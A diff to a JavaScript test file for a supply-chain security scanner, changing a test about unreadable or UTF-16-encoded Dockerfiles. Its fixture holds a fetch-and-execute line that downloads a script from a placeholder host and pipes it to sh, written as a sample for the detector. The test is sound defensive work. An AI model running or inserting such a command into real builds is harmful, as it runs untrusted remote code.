@@ -164,8 +164,11 @@ describe("supply-chain/fetch-execute in nested shells and published actions", ()
     assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.locations[0]?.startLine]), [["action.yml", 6]]);
   });
   it("is incomplete, not passed, when a Dockerfile or workflow it would read cannot be read or parsed", async () => {
-    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("FROM alpine:3.20\nRUN wget -qO- https://x.example/i.sh | sh\n", "utf16le")]);
-    assert.equal((await run({ Dockerfile: utf16 })).outcome, "incomplete");
+    const dockerfile = "FROM alpine:3.20\nRUN wget -qO- https://x.example/i.sh | sh\n";
+    assert.equal((await run({ Dockerfile: Buffer.from(`${dockerfile}\u0000\u0000\u0000`) })).outcome, "incomplete");
+    // A UTF-16 file with its byte order mark is read as the text it is, and judged.
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(dockerfile, "utf16le")]);
+    assert.equal((await run({ Dockerfile: utf16 })).outcome, "fail");
     assert.equal((await run({ ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    steps: [\n" })).outcome, "incomplete");
   });
 });
